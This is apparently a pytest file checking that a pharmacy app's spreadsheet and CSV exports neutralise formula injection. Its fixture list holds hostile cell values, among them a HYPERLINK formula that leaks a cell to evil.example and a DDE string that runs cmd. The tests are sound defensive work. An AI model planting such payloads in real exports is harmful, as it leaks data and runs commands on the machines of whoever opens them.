"""Issue 17 item 3: a member or product named like a spreadsheet formula is exported as text everywhere.

Each export is read back (openpyxl, csv) and checked cell by cell: no formula, and the hostile text kept
whole behind OWASP's single quote. Numbers, a negative one too, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from pharmadesk import env
from pharmadesk.cli.analytics import format_frame
from pharmadesk.core.sales import CartLine, Payment
from pharmadesk.core.store import Store
from pharmadesk.headoffice.report import format_csv
from pharmadesk.io.safe_cells import neutralise
from pharmadesk.reports.export import export_excel
from conftest import PASSPHRASE, PASSWORDS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTabbed", "\r=1+1"]


def _no_formula_cells(path) -> list:
    """Every cell value of every sheet; fails on the first formula cell."""
    values = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                values.append(cell.value)
    return values


@pytest.mark.parametrize("value", HOSTILE)
def test_the_rule_quotes_formula_starts_and_leaves_numbers(value):
    assert neutralise(value) == "'" + value
    assert neutralise("Anna") == "Anna" and neutralise("") == ""
    assert neutralise(-12.5) == -12.5 and neutralise(-3) == -3 and neutralise(None) is None


def _hostile_members(store):
    return [store.members.register(name=name, phone=f"1380000{index:04d}", marketing_consent=True)
            for index, name in enumerate(n for n in HOSTILE if n.strip() == n)]


def test_call_list_xlsx_and_csv_hold_text_not_formulas(store, tmp_path):
    members = _hostile_members(store)
    names = [store.members.get(member).name for member in members]
    assert HYPERLINK in names
    xlsx, csv_path = tmp_path / "calls.xlsx", tmp_path / "calls.csv"
    assert store.privacy.export_call_list(members, xlsx, label="segment") == len(members)
    values = _no_formula_cells(xlsx)
    for name in names:
        assert "'" + name in values and name not in values
    assert store.privacy.export_call_list(members, csv_path, headers=("=Name", "Phone")) == len(members)
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["'=Name", "Phone"]
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in names)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_owner_daily_report_xlsx_holds_the_product_name_as_text(qapp, store_dir, ids, tmp_path, monkeypatch):
    from pharmadesk.cli.main import main as cli_main

    monkeypatch.setenv(env.PASSPHRASE, PASSPHRASE)
    monkeypatch.setenv(env.PASSWORD, PASSWORDS["owner"])
    monkeypatch.setattr("pharmadesk.db.keys._keyring", lambda: None)
    with Store.open(store_dir, passphrase=PASSPHRASE, use_keyring=False) as store:
        store.login("owner", PASSWORDS["owner"])
        store.catalog.update_product(ids.otc, name=HYPERLINK)
        store.sales.sell([CartLine(ids.otc, 2)], [Payment("cash", 2500)])
        day = store.today()
    out = tmp_path / "daily.xlsx"
    assert cli_main(["report", "daily", "--store", str(store_dir), "--date", day.isoformat(), "--out", str(out)]) == 0
    values = _no_formula_cells(out)
    assert "'" + HYPERLINK in values and HYPERLINK not in values
    assert any(isinstance(v, (int, float)) and not isinstance(v, bool) for v in values)   # figures stay numbers


def test_pane_excel_export_types_text_as_text(tmp_path):
    out = export_excel(tmp_path / "pane.xlsx", [("Top", ["=Product", "Units", "Change"],
                                                   [[name, 3, -2.5] for name in HOSTILE] + [["#N/A", 1, 0]])])
    values = _no_formula_cells(out)
    sheet = load_workbook(out).worksheets[0]
    assert [cell.value for cell in sheet[1]] == ["'=Product", "Units", "Change"]
    expected = ["'" + n.replace("\r", "\n") for n in HOSTILE] + ["#N/A"]     # XML reads CR back as LF
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == expected
    assert sheet["A8"].data_type == "s"                 # not typed as an Excel error value
    assert -2.5 in values and sheet["C2"].data_type == "n"


def test_analytics_csv_output_quotes_text_and_keeps_numbers():
    frame = pd.DataFrame({"name": [HYPERLINK, "Anna"], "delta": [-5, 7], "share": [-0.25, 0.5]})
    rows = list(csv.reader(io.StringIO(format_frame(frame, "csv"))))
    assert rows == [["name", "delta", "share"], ["'" + HYPERLINK, "-5", "-0.25"], ["Anna", "7", "0.5"]]
    assert frame.loc[0, "name"] == HYPERLINK            # the caller's frame is not changed


def test_head_office_csv_quotes_text():
    rows = list(csv.reader(io.StringIO(format_csv([{"store_id": "=1+1", "net": -300}]))))
    assert rows == [["store_id", "net"], ["'=1+1", "-300"]]
